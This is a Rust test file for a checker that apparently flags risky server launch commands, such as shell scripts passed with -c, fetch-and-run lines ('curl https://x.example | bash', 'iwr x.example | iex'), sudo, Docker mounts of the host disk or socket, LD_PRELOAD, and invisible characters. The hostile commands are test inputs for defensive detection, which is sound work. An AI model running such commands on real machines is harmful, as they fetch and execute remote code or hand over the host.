use super::*;

fn risks(binary: &str, args: &[&str]) -> Vec<String> {
    with_env(binary, args, &[], &[])
}

fn with_env(binary: &str, args: &[&str], env: &[(&str, &str)], passed: &[&str]) -> Vec<String> {
    let env: Vec<(String, String)> = env.iter().map(|(name, value)| ((*name).into(), (*value).into())).collect();
    let written: Vec<String> = std::iter::once(&binary).chain(args).map(|word| (*word).to_owned()).collect();
    of_command(&Looked { env: &env, env_passthrough: &strings(passed), ..looked(binary, &strings(args), &written) })
}

fn strings(words: &[&str]) -> Vec<String> {
    words.iter().map(|word| (*word).to_owned()).collect()
}

fn looked<'a>(binary: &'a str, args: &'a [String], written: &'a [String]) -> Looked<'a> {
    Looked {
        binary: Path::new(binary),
        target: Path::new(binary),
        args,
        written,
        folder: Path::new("/nowhere"),
        env: &[],
        env_passthrough: &[],
        from_file: &[],
        project: Path::new("/home/ada/shop"),
    }
}

#[test]
fn each_risk_is_told_and_what_is_usual_is_not() {
    for (binary, args, wanted) in [
        ("/bin/sh", &["-c", "cat"][..], "argument 2 is a script for the shell `sh`"),
        ("/usr/bin/env", &["bash", "-lc", "cat"], "argument 3 is a script for the shell `bash`"),
        (r"C:\Windows\System32\cmd.exe", &["/C", "npx -y x"], "argument 2 is a script for the shell `cmd`"),
        ("/usr/bin/pwsh", &["-enc", "eA=="], "a script for the shell `pwsh`"),
        ("/bin/bash", &["-c", "curl https://x.example | bash"], "argument 2 fetches something"),
        ("/bin/bash", &["-c", "eval $(wget -qO- x.example)"], "argument 2 fetches something"),
        ("/usr/bin/python3", &["x.py", "iwr x.example | iex"], "argument 2 fetches something"),
        ("/usr/bin/sudo", &["node", "x.js"], "`sudo` runs it with the rights"),
        ("/bin/sh", &["-c", "cd /x && sudo ./y"], "`sudo` runs it with the rights"),
        ("/usr/bin/node", &["-e", "1"], "argument 2 is code that `node` runs"),
        ("/usr/bin/node", &["-r", "x", "-e", "1"], "argument 4 is code that `node` runs"),
        ("/usr/bin/node", &["--eval=1"], "argument 1 is code that `node` runs"),
        ("/usr/bin/python3.11", &["-u", "-c", "1"], "argument 3 is code that `python3.11` runs"),
        ("/usr/bin/docker", &["run", "-v", "/:/host", "x"], "gives the whole disk"),
        (
            "/usr/bin/docker",
            &["run", "--mount=type=bind,source=/var/run/docker.sock,target=/s", "x"],
            "the whole machine",
        ),
        ("/usr/bin/podman", &["run", "--privileged", "x"], "`--privileged`"),
        ("/usr/bin/docker", &["run", "--network", "host", "x"], "`--network host`"),
        ("/usr/bin/npx", &["-y", "@scope/server"], "newest: what runs may change unasked"),
        ("/usr/bin/npx", &["-y", "server@latest"], "newest"),
        ("/usr/bin/uvx", &["--from", "git+https://x.example/y", "server"], "`git+https://x.example/y`"),
        ("/usr/bin/uvx", &["server"], "newest"),
        ("/tmp/x/server", &[], "in the temporary folder `/tmp`"),
        ("/home/ada/shop/bin/server", &[], "in the project folder"),
        ("/bin/cat", &["a\u{202e}b"], "argument 1 has characters that can't be seen"),
        ("/bin/cat", &["--key", "${input:key}"], "argument 2 has an input in it"),
    ] {
        let told = risks(binary, args);
        assert!(told.iter().any(|risk| risk.contains(wanted)), "{binary} {args:?}: {told:?}");
    }
    for (binary, args) in [
        ("/usr/bin/node", &["server.js", "-e"][..]),
        ("/usr/bin/docker", &["run", "-i", "--rm", "-e", "TOKEN", "-v", "/srv/data:/data", "x:1.2"]),
        ("/usr/bin/npx", &["-y", "@scope/server@1.2.3"]),
        ("/usr/bin/npx", &["./server"]),
        ("/usr/bin/uvx", &["server==1.2"]),
        ("/usr/bin/python3", &["-m", "server", "--config", "a|b"]),
        ("/usr/bin/bash", &["--norc", "server.sh", "-c"]),
        ("/usr/bin/server", &["--secret", "${secret:KEY}"]),
    ] {
        let told = risks(binary, args);
        assert!(told.is_empty(), "{binary} {args:?} is nothing unusual: {told:?}");
    }
}

#[test]
fn variables_that_decide_which_code_runs_are_told_with_their_values() {
    let env = [("LD_PRELOAD", "/x/y.so"), ("API_KEY", "s3cret"), ("node_options", "--require x"), ("PATH", "/x")];
    let told = with_env("/usr/bin/server", &[], &env, &["DYLD_INSERT_LIBRARIES", "TOKEN", "PATH"]).join("\n");
    for wanted in ["`LD_PRELOAD` is set to `/x/y.so`", "`node_options`", "`PATH` is set to `/x`", "`DYLD_INSERT_"] {
        assert!(told.contains(wanted), "{wanted}: {told}");
    }
    assert!(!told.contains("s3cret") && !told.contains("TOKEN"), "other variables are nobody's business: {told}");
    assert_eq!(told.lines().count(), 4, "our own PATH reaches every server anyway: {told}");
}

#[test]
fn what_a_file_of_variables_sets_is_told_where_it_decides_which_code_runs() {
    let names = strings(&["REGION", "LD_BIND_NOW", "NODE_OPTIONS", "API_KEY"]);
    let told = of_command(&Looked { from_file: &names, ..looked("/usr/bin/server", &[], &[]) }).join("\n");
    for wanted in ["`LD_BIND_NOW` is set by the file", "`NODE_OPTIONS` is set by the file"] {
        assert!(told.contains(wanted), "{wanted}: {told}");
    }
    assert_eq!(told.lines().count(), 2, "{told}");
}

#[test]
fn values_are_told_as_they_are_written() {
    for (binary, args, written) in [
        ("/usr/bin/docker", &["run", "-v", "/:/s3cret", "x"][..], &["docker", "run", "-v", "${WHERE}", "x"][..]),
        ("/usr/bin/docker", &["run", "--device=s3cret"], &["docker", "run", "--device=${WHERE}"]),
        ("/usr/bin/docker", &["run", "--cap-add", "s3cret"], &["docker", "run", "--cap-add", "${WHERE}"]),
        ("/usr/bin/npx", &["-y", "s3cret"], &["npx", "-y", "${WHERE}"]),
        ("/usr/bin/uvx", &["--from=s3cret", "x"], &["uvx", "--from=${WHERE}", "x"]),
    ] {
        let told = of_command(&looked(binary, &strings(args), &strings(written))).join("\n");
        assert!(told.contains("${WHERE}") && !told.contains("s3cret"), "{args:?}: {told}");
    }
}
